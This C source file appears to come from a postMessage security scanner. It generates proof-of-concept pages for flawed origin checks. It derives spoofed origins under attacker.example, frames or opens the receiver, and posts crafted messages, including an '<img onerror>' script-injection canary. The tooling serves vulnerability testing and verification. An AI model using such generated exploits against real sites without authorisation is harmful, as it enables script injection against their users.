/*
 * export_poc.c - the proof-of-concept page of a finding whose listener's
 * origin check is missing or flawed: it frames the receiver (or opens it
 * when framing is forbidden) and posts a message built from the handler
 * (poc_payload.h: the guards on the path to the sink met with their
 * constants, a canary where the sink reads), or the recorded message when
 * the guards cannot be derived, from an origin the check lets through
 * when one can be derived.  The page watches for the canary and shows
 * "canary fired"; `pmscope verify` (verify.c) runs it in Chromium.
 *
 * Everything from the input that reaches the page is either escaped for
 * its context (html_escape, js_string_literal, json_for_script) or made of
 * a restricted alphabet (the passing origin).  The target itself must be
 * an http(s) URL: any other scheme gets no page and a reason instead
 * (poc_target_refusal).
 */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "export_int.h"
#include "md_escape.h"
#include "mem.h"
#include "poc_payload.h"

/* Checks that let another origin through (DESIGN.md, analysis). */
int
export_check_is_flawed(const char *kind)
{
    static const char *const flawed[] = {
        "none", "indexOf", "includes", "regex-unanchored", "startsWith",
        "endsWith", "search", "match", "search/match", "source", NULL,
    };
    if (kind == NULL)
        return 0;
    for (int i = 0; flawed[i]; i++)
        if (strcmp(kind, flawed[i]) == 0)
            return 1;
    return 0;
}

/* 1 when X-Frame-Options or CSP frame-ancestors keep other sites out. */
static int
framing_forbidden(const struct rep_window *w)
{
    if (w->xfo && w->xfo[0])
        return 1;
    if (w->csp) {
        const char *fa = strstr(w->csp, "frame-ancestors");
        if (fa) {
            size_t n = strcspn(fa, ";");
            const char *star = strchr(fa, '*');
            if (star == NULL || (size_t)(star - fa) >= n)
                return 1;
        }
    }
    return 0;
}

/*
 * The literal a check compares event.origin with, as written at p:
 * "[scheme://]host[:port]", lower-cased, backslashes (regex escapes)
 * dropped; a leading '^' sets *anchored (2 when a '$' ends the regex
 * right after the literal).  Only [a-z0-9.:/-] are kept.
 * *free_dot gets the index in lit of the first '.' written without a
 * backslash when the literal is a whole regex ending in "$/" (any
 * character matches there), else (size_t)-1.
 */
static size_t
poc_check_literal(const char *p, char *lit, size_t litsz, int *anchored,
                  size_t *free_dot)
{
    size_t ln = 0, dot = (size_t)-1;
    *free_dot = (size_t)-1;
    *anchored = *p == '^';
    if (*anchored)
        p++;
    for (; *p && ln + 1 < litsz; p++) {
        char c = (char)tolower((unsigned char)*p);
        if (c == '\\') {
            if (p[1] == '.' && ln + 1 < litsz) { /* an escaped dot is a dot */
                lit[ln++] = '.';
                p++;
            }
            continue;
        }
        if (c == '.' && dot == (size_t)-1)
            dot = ln;
        if (c == '/' && !(ln > 0 && (lit[ln - 1] == ':' ||
                                     (lit[ln - 1] == '/' && ln > 1 &&
                                      lit[ln - 2] == ':'))))
            break;
        if (!(isalnum((unsigned char)c) || c == '.' || c == '-' || c == ':' ||
              c == '/'))
            break;
        lit[ln++] = c;
    }
    lit[ln] = '\0';
    if (*anchored && p[0] == '$' && p[1] == '/') {
        *anchored = 2; /* ^...$: the whole origin */
        *free_dot = dot;
    }
    return ln;
}

/* 1 when origin passes a check of kind against the literal lit. */
static int
poc_origin_passes(const char *kind, const char *lit, int anchored,
                  const char *origin)
{
    size_t ol = strlen(origin), ll = strlen(lit);
    if (anchored == 2)
        return strcmp(origin, lit) == 0;
    if (strcmp(kind, "startsWith") == 0 || anchored)
        return strncmp(origin, lit, ll) == 0;
    if (strcmp(kind, "endsWith") == 0)
        return ol >= ll && strcmp(origin + ol - ll, lit) == 0;
    return strstr(origin, lit) != NULL;
}

/*
 * An origin that passes a flawed check on the trusted host in the check
 * expression: "a.example" under indexOf/includes/startsWith/regex becomes
 * https://a.example.attacker.example, under endsWith (or with a port)
 * https://attacker-a.example; a scheme in the literal is kept.  The
 * candidate is checked against the literal, so a check that no other
 * origin can pass yields none.  An anchored regex that is a literal with
 * an unescaped dot in its host (/^https:\/\/www.a.example$/) is passed by
 * the same origin with an 'x' for that dot (https://wwwxa.example).  Only [a-z0-9.:/-] from the expression are
 * used, so nothing from the input reaches the page unescaped.  NULL when
 * the expression names no host or no candidate passes.
 */
static char *
poc_passing_origin(const char *kind, const char *expr, const char *target)
{
    const char *dflt = strncasecmp(target, "http://", 7) == 0 ? "http://" : "https://";
    if (expr == NULL || kind == NULL || strcmp(kind, "none") == 0 ||
        strcmp(kind, "source") == 0)
        return NULL;
    const char *p = expr;
    while ((p = strpbrk(p, "'\"`/")) != NULL) {
        p++;
        char lit[160];
        int anchored = 0;
        size_t free_dot;
        if (poc_check_literal(p, lit, sizeof lit, &anchored, &free_dot) == 0)
            continue;
        const char *sep = strstr(lit, "://");
        const char *host = sep ? sep + 3 : lit;
        if (sep && strncmp(lit, "http://", 7) != 0 &&
            strncmp(lit, "https://", 8) != 0)
            continue;
        const char *port = strchr(host, ':');
        size_t hl = port ? (size_t)(port - host) : strlen(host);
        if (hl < 4 || host[hl - 1] == '.' || memchr(host, '/', hl) != NULL ||
            (memchr(host, '.', hl) == NULL &&
             !(hl == 9 && memcmp(host, "localhost", 9) == 0)))
            continue;
        char scheme[16];
        snprintf(scheme, sizeof scheme, "%.*s",
                 sep ? (int)(sep - lit + 3) : (int)strlen(dflt), sep ? lit : dflt);
        char cand[2][400];
        int ends = strcmp(kind, "endsWith") == 0;
        snprintf(cand[ends], sizeof cand[0], "%s%.*s.attacker.example", scheme,
                 (int)hl, host);
        snprintf(cand[!ends], sizeof cand[0], "%sattacker-%s", scheme, host);
        for (int i = 0; i < 2; i++) {
            if (i == ends && port)
                continue; /* a port cannot sit inside a host name */
            /* "attacker-127.0.0.1" ends in a number: URL parsers take it
             * for a broken IPv4 address, so no such origin exists. */
            if (i != ends && isdigit((unsigned char)host[hl - 1]))
                continue;
            if (poc_origin_passes(kind, lit, anchored, cand[i]))
                return xstrdup(cand[i]);
        }
        /* /^https:\/\/www.a.example$/: the unescaped dot matches any character */
        if (strcmp(kind, "regex-unanchored") == 0 && free_dot != (size_t)-1 &&
            lit + free_dot > host && lit + free_dot < host + hl - 1) {
            char odd[400];
            snprintf(odd, sizeof odd, "%s", lit);
            odd[free_dot] = 'x';
            return xstrdup(odd);
        }
    }
    return NULL;
}

/* data JSON made safe inside <script>: < > & U+2028 U+2029 as \u escapes
 * (they can only occur inside JSON strings, where \u is equivalent). */
static void
json_for_script(struct pm_buf *out, const char *json)
{
    for (const char *p = json; *p; p++) {
        unsigned char c = (unsigned char)*p;
        if (c == '<' || c == '>' || c == '&')
            pm_buf_addf(out, "\\u%04x", c);
        else if (c == 0xE2 && (unsigned char)p[1] == 0x80 &&
                 ((unsigned char)p[2] == 0xA8 || (unsigned char)p[2] == 0xA9)) {
            pm_buf_addf(out, "\\u%04x", (unsigned char)p[2] == 0xA8 ? 0x2028
                                                                     : 0x2029);
            p += 2;
        } else
            pm_buf_addc(out, (char)c);
    }
}

/*
 * Why the receiver at url gets no proof of concept, or NULL when it may
 * have one.  The page frames or opens its target from the origin the
 * analyst serves it from, so only an http(s) URL is a target: a
 * javascript: or vbscript: URL from the input would run its code in that
 * origin, a data:, blob: or file: URL would load content the input chose
 * (or a local file) instead of the receiver.  The scheme is named only
 * when it is one (letters, digits, + . -), so the reason holds nothing
 * else from the input.
 */
static char *
poc_target_refusal(const char *url)
{
    if (strncasecmp(url, "http://", 7) == 0 ||
        strncasecmp(url, "https://", 8) == 0)
        return NULL;
    size_t n = strcspn(url, ":");
    int scheme = url[n] == ':' && n > 0 && n <= 16 &&
                 isalpha((unsigned char)url[0]);
    for (size_t i = 0; scheme && i < n; i++)
        if (!isalnum((unsigned char)url[i]) && !strchr("+.-", url[i]))
            scheme = 0;
    struct pm_buf b;
    pm_buf_init(&b);
    pm_buf_adds(&b, "the receiver's URL is ");
    if (scheme) {
        pm_buf_adds(&b, "a ");
        for (size_t i = 0; i < n; i++)
            pm_buf_addc(&b, (char)tolower((unsigned char)url[i]));
        pm_buf_adds(&b, ": URL");
    } else {
        pm_buf_adds(&b, "not an absolute URL");
    }
    pm_buf_adds(&b, ", not http or https: a page framing or opening it "
                    "would run or load what the input chose in the origin "
                    "the page is served from");
    return pm_buf_detach(&b);
}

/*
 * The canary of a sink kind: `canary` (what the payload puts where the
 * sink reads) and, in the page, how it is seen.  The code canary posts
 * {pmscopeCanary: ID, sink, stack} to the window that opened or framed
 * the receiver; the HTML canary runs it from an <img onerror>; the
 * location canary is a URL on the page's own origin, seen once the
 * receiver navigated there (it is then same-origin with the page); the
 * storage canary is a value the analyst (or verify) looks for in the
 * receiver's storage; a reply is seen when the receiver answers.
 */
static void
poc_canary(struct pm_buf *b, const struct poc_payload *pl)
{
    pm_buf_adds(b, "const canaryCode = \"(opener||parent).postMessage({pmscopeCanary:\" + "
                   "findingId + \",sink:'\" + sink + \"',stack:String(new Error().stack)},'*')\";\n"
                   "const canaryUrl = location.origin + '/pmscope-canary?f=' + findingId;\n"
                   "const canaryValue = 'pmscope-canary-' + findingId;\n");
    switch (pl->kind) {
    case POC_SINK_HTML:
        pm_buf_adds(b, "const canary = '<img src=x onerror=\"' + canaryCode + '\">';\n");
        break;
    case POC_SINK_CODE:
        pm_buf_adds(b, "const canary = canaryCode;\n");
        break;
    case POC_SINK_LOCATION:
        pm_buf_adds(b, "const canary = canaryUrl;\n");
        break;
    default:
        pm_buf_adds(b, "const canary = canaryValue;\n");
        break;
    }
}

/* The page's script after `data`: deliver, watch, report. */
static const char poc_script_tail[] =
    "const status = document.getElementById('pmscope-status');\n"
    "window.pmscopeResult = null;\n"
    "function fired(how, detail) {\n"
    "  if (window.pmscopeResult) return;\n"
    "  window.pmscopeResult = {fired: true, sink: how, detail: detail || ''};\n"
    "  document.title = 'canary fired';\n"
    "  status.textContent = 'canary fired: ' + how + (detail ? '\\n' + detail : '');\n"
    "}\n"
    "let win = null;\n"
    "window.addEventListener('message', (e) => {\n"
    "  if (e.data && e.data.pmscopeCanary === findingId) {\n"
    "    fired(e.data.sink, e.data.stack);\n"
    "    return;\n"
    "  }\n"
    "  const p = document.createElement('pre');\n"
    "  p.textContent = 'reply from ' + e.origin + ': ' + JSON.stringify(e.data);\n"
    "  document.body.appendChild(p);\n"
    "  if (sinkKind === 'reply' && win && e.source === win)\n"
    "    fired('reply', 'reply from ' + e.origin + ': ' + JSON.stringify(e.data));\n"
    "});\n"
    "function deliver() {\n"
    "  let n = 0;\n"
    "  const t = setInterval(() => {\n"
    "    try {\n"
    "      if (win.location.href.indexOf('/pmscope-canary?f=' + findingId) >= 0)\n"
    "        fired('location', win.location.href);\n"
    "    } catch (err) { /* still the receiver's origin */ }\n"
    "    if (window.pmscopeResult || ++n > 20) { clearInterval(t); return; }\n"
    "    try { win.postMessage(data, '*'); } catch (err) { status.textContent = String(err); }\n"
    "    if (n === 20 && sinkKind === 'storage')\n"
    "      status.textContent = 'sent: look for the value ' + canaryValue +"
    " ' in the receiver\\'s storage';\n"
    "  }, 300);\n"
    "}\n";

void
export_build_poc_any(struct rep_finding *f, const struct rep_window *receiver,
                     int any_check)
{
    if (f->listener == NULL ||
        (!any_check && !export_check_is_flawed(f->listener->check_kind)) ||
        receiver == NULL || receiver->url == NULL ||
        (receiver->kind && strcmp(receiver->kind, "worker") == 0))
        return;
    f->poc_omitted = poc_target_refusal(receiver->url);
    if (f->poc_omitted)
        return;
    int popup = framing_forbidden(receiver);
    f->poc_how = popup ? "window.open" : "iframe";
    f->poc_origin = export_check_is_flawed(f->listener->check_kind)
                        ? poc_passing_origin(f->listener->check_kind,
                                             f->listener->check_expr, receiver->url)
                        : NULL;
    struct poc_payload pl;
    int derived = poc_payload_build(f->listener->code, &pl) == 0;
    const struct rep_message *ev = f->evidence;
    snprintf(f->poc_sink, sizeof f->poc_sink, "%s", pl.kind ? pl.sink : "");
    f->poc_sink_kind = poc_sink_kind_name(pl.kind);
    f->poc_sink_line = pl.sink_row >= 0 && f->listener->line > 0
                           ? f->listener->line + pl.sink_row : 0;
    snprintf(f->poc_event, sizeof f->poc_event, "%s", pl.event);
    struct pm_buf why;
    pm_buf_init(&why);
    if (derived) {
        if (pl.guards == 0)
            pm_buf_addf(&why, "built from the handler: no guard on the path to %s",
                        pl.sink);
        else
            pm_buf_addf(&why, "built from the handler: %d guard%s on the path to %s "
                              "met with their constants",
                        pl.guards, pl.guards == 1 ? "" : "s", pl.sink);
        if (pl.kind == POC_SINK_REPLY)
            pm_buf_adds(&why, "; the page records the reply");
        else
            pm_buf_addf(&why, "; the canary is where %s reads", pl.sink);
        if (pl.stringify)
            pm_buf_adds(&why, "; sent as a JSON string (the handler parses it)");
    } else {
        pm_buf_addf(&why, "the recorded %s: the guards could not be derived (%s)",
                    ev ? "evidence message" : "message shape (none recorded)",
                    pl.unmet ? pl.unmet : "no reason");
    }
    f->poc_basis = pm_buf_detach(&why);
    f->poc_derived = derived;
    struct pm_buf b;
    pm_buf_init(&b);
    pm_buf_addf(&b,
                "<!doctype html>\n"
                "<meta charset=\"utf-8\">\n"
                "<title>pmscope proof of concept: finding %lld</title>\n"
                "<h1>Proof of concept: finding %lld</h1>\n"
                "<p>Serve this page from an origin the receiver must not "
                "trust",
                (long long)f->id, (long long)f->id);
    if (f->poc_origin) {
        pm_buf_adds(&b, ", e.g. <code>");
        html_escape(&b, f->poc_origin);
        pm_buf_adds(&b, "</code>");
    }
    pm_buf_adds(&b, ". It ");
    pm_buf_adds(&b, popup ? "opens" : "frames");
    pm_buf_adds(&b, " <code>");
    html_escape(&b, receiver->url);
    pm_buf_adds(&b, "</code> and sends it a message: ");
    html_escape(&b, f->poc_basis);
    pm_buf_adds(&b, ".");
    if (!derived || (pl.data_js && strstr(pl.data_js, "[redacted]")))
        pm_buf_adds(&b, " Values shown as [redacted] must be filled in.");
    if (pl.kind == POC_SINK_LOCATION)
        pm_buf_adds(&b, " The canary URL is <code>/pmscope-canary?f=ID</code> on "
                        "this page's own origin: the receiver navigating there "
                        "is the proof.");
    if (pl.kind == POC_SINK_STORAGE)
        pm_buf_adds(&b, " The canary is a value stored by the receiver: look for "
                        "<code>pmscope-canary-ID</code> in its storage.");
    pm_buf_adds(&b, "</p>\n<pre id=\"pmscope-status\">waiting for the canary</pre>\n"
                    "<script>\n");
    pm_buf_addf(&b, "const findingId = %lld;\nconst target = ", (long long)f->id);
    js_string_literal(&b, receiver->url);
    pm_buf_adds(&b, ";\nconst sink = ");
    js_string_literal(&b, pl.kind ? pl.sink : "none");
    pm_buf_adds(&b, ";\nconst sinkKind = ");
    js_string_literal(&b, poc_sink_kind_name(pl.kind));
    pm_buf_adds(&b, ";\n");
    poc_canary(&b, &pl);
    pm_buf_adds(&b, "const data = ");
    if (derived) {
        if (pl.stringify)
            pm_buf_adds(&b, "JSON.stringify(");
        pm_buf_adds(&b, pl.data_js);
        if (pl.stringify)
            pm_buf_adds(&b, ")");
    } else if (ev == NULL) {
        pm_buf_adds(&b, "{}");
    } else if (ev->data_is_json) {
        json_for_script(&b, ev->data_compact);
    } else {
        js_string_literal(&b, ev->data_compact);
    }
    pm_buf_adds(&b, ";\n");
    poc_payload_free(&pl);
    pm_buf_adds(&b, poc_script_tail);
    if (popup)
        pm_buf_adds(&b,
                    "// The receiver refuses to be framed: open it instead.\n"
                    "function openTarget() {\n"
                    "  win = window.open(target, 'pmscope_poc');\n"
                    "  if (win) deliver();\n"
                    "  return win;\n"
                    "}\n"
                    "if (!openTarget()) {\n"
                    "  document.body.insertAdjacentHTML('beforeend',"
                    " '<button id=\"go\">open receiver</button>');\n"
                    "  document.getElementById('go').onclick = openTarget;\n"
                    "}\n");
    else
        pm_buf_adds(&b,
                    "const f = document.createElement('iframe');\n"
                    "f.src = target;\n"
                    "f.width = 800;\n"
                    "f.height = 600;\n"
                    "f.onload = () => { if (!win) { win = f.contentWindow; deliver(); } };\n"
                    "document.body.appendChild(f);\n");
    pm_buf_adds(&b, "</script>\n");
    f->poc = pm_buf_detach(&b);
}

void
export_build_poc(struct rep_finding *f, const struct rep_window *receiver)
{
    export_build_poc_any(f, receiver, 0);
}
